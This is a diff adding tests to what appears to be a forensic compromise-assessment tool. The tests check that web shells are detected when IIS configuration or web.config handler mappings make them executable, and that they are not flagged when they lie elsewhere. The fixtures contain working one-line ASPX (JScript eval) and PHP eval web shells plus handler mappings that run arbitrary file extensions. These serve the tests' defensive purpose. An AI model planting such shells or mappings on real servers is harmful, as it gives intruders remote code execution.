@@ -201,6 +201,77 @@ void describe('what an intruder plants on a compromised server changes nothing o
     })
 })
 
+/** Shells that run since the configuration of IIS says so. Where they lie, and what makes them run. */
+void describe('a shell that only the configuration makes run is one that runs', () => {
+  const host = 'C/Windows/System32/inetsrv/config/applicationHost.config'
+  const shell = '<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>'
+  const handled = (path: string): string =>
+    `<system.webServer><handlers><add name="own" path="${path}" verb="*" modules="IsapiModule" scriptProcessor="C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\aspnet_isapi.dll" /></handlers></system.webServer>`
+  const configuration = (folder: string, handlers = ''): string =>
+    `<configuration><system.applicationHost><sites><site name="Own" id="5"><application path="/"><virtualDirectory path="/" physicalPath="${folder}" /></application></site></sites></system.applicationHost>${handlers}</configuration>`
+  const inRoot = 'C:\\inetpub\\wwwroot'
+  const assessed = async (files: Planted): Promise<Assessment> => {
+    const folder = mkdtempSync(join(tmpdir(), 'postern-served-'))
+    try {
+      await materialise({ ...spec, steps: [] }, folder)
+      for (const [path, content] of Object.entries(files)) {
+        mkdirSync(dirname(join(folder, path)), { recursive: true })
+        writeFileSync(join(folder, path), content)
+      }
+      const knowledge = await loadKnowledge({ packs: [join(root, 'packs')], rules: [], iocs: [] })
+      const facts = loadExposureFacts(join(root, 'knowledge'))
+      const pool = inlinePool(knowledge, null)
+      return await assess([folder], knowledge, facts, pool, { fallbackName: 'EVIDENCE', tool: 'test' })
+    } finally {
+      rmSync(folder, { recursive: true, force: true })
+    }
+  }
+  const php = '<?php @eval($_POST["pass"]); ?>'
+  for (const [what, files] of [
+    ['a folder of a site', { [host]: configuration('C:\\web'), 'C/web/x.aspx': shell }],
+    [
+      'a folder that a variable and dots lead to',
+      { [host]: configuration('%windir%\\temp\\..\\pages'), 'C/Windows/pages/x.aspx': shell },
+    ],
+    ['an ending with a handler', { [host]: configuration(inRoot, handled('*.own')), 'C/inetpub/wwwroot/x.own': shell }],
+    ['PHP', { [host]: configuration(inRoot, handled('*.php')), 'C/inetpub/wwwroot/x.php': php }],
+    [
+      'a name with a handler',
+      { [host]: configuration(inRoot, handled('own.txt')), 'C/inetpub/wwwroot/own.txt': shell },
+    ],
+    ['both', { [host]: configuration('C:\\web', handled('*.own')), 'C/web/x.own': shell }],
+    [
+      'a handler in a web.config',
+      {
+        'C/inetpub/wwwroot/web.config': `<configuration>${handled('*.own')}</configuration>`,
+        'C/inetpub/wwwroot/x.own': shell,
+      },
+    ],
+  ] as const)
+    void it(what, async () => {
+      const { verdict, answers, persistence } = await assessed(files)
+      const still = answers.find(({ question }) => question === 'still-there')
+      assert.deepEqual([verdict.is, verdict.sure, still?.is], ['compromised', true, 'yes'])
+      assert.ok(persistence.some(({ kind, state }) => kind === 'web-shell' && state === 'present'))
+    })
+
+  void it('and not elsewhere, in a copy of an earlier configuration, or in an archive', async () => {
+    for (const files of [
+      { [host]: configuration('C:\\web'), 'C/webs/x.aspx': shell },
+      {
+        'C/inetpub/history/CFGHISTORY_0000000001/applicationHost.config': configuration('C:\\web'),
+        'C/web/x.aspx': shell,
+      },
+      { [host]: configuration('C:\\web'), 'C/web/a.zip': zipOf([{ name: 'x.aspx', content: Buffer.from(shell) }]) },
+      { [host]: configuration('C:\\web', handled('*.own')), 'C/inetpub/wwwroot/x.other': shell },
+    ]) {
+      const { persistence } = await assessed(files)
+      const shells = persistence.filter(({ kind }) => kind === 'web-shell')
+      assert.deepEqual(new Set(shells.map(({ state }) => state)), new Set(['unknown']))
+    }
+  })
+})
+
 /** The path of the web shell in the evidence. */
 function shellIn(place: string): string {
   const found = (readdirSync(place, { recursive: true }) as string[]).find((path) =>
